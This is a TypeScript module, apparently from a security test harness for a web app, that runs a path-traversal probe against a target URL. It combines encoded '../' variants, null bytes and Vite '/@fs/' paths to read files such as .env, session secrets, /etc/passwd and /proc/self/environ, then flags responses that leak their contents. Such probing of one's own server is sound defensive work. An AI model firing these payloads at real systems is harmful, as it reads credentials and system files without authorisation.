import { openSender } from './send.ts';
import type { Target } from './target.ts';

const climbs = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%252f',
  '..\\',
  '..%5c',
  '....//',
  '..;/',
  '%c0%ae%c0%ae/',
  '..%00/',
];
const starts = ['/', '/static/', '/pictures/', '/api/', '/sim/', '/assets/', '/sim/identity/'];
const wanted = [
  'package.json',
  'server/main.ts',
  'data/session-secret',
  'etc/passwd',
  'proc/self/environ',
  '.env',
];
const direct = [
  '/package.json',
  '/.env',
  '/.git/config',
  '/server/index.js',
  '/build/server/index.js',
  '/static/',
  '/pictures/',
  '/%00',
  '/static/%00.js',
  '/pictures/car.svg%00.png',
  '/file:///etc/passwd',
  '//etc/passwd',
  '/..%2f'.repeat(40),
  '/@fs/etc/passwd',
  '/@vite/client',
  '/static/%ff%fe.js',
  '/%',
  '/%zz',
];
const insides = /"name": "handover"|root:x:0|SESSION_SECRET|createPatientServer|\[core\]|PATH=/;

/** Ways out of the folders that are served. */
export async function attackByPath({ url }: Target): Promise<string[]> {
  const { send, close } = openSender(url, 4);
  const targets = [
    ...direct,
    ...starts.flatMap((start) =>
      climbs.flatMap((climb) =>
        wanted.flatMap((file) => [3, 8].map((times) => start + climb.repeat(times) + file)),
      ),
    ),
  ];
  const findings: string[] = [];
  for (const target of targets) {
    const { status, text } = await send({
      operation: 'path',
      caller: 'visitor',
      method: 'GET',
      target,
      headers: [['Accept-Encoding', 'identity']],
      body: null,
    });
    if (status >= 500 || insides.test(text))
      findings.push(`GET ${target} answers ${status} ${text.slice(0, 80)}`);
  }
  close();
  console.log(`${targets.length} paths`);
  return findings;
}
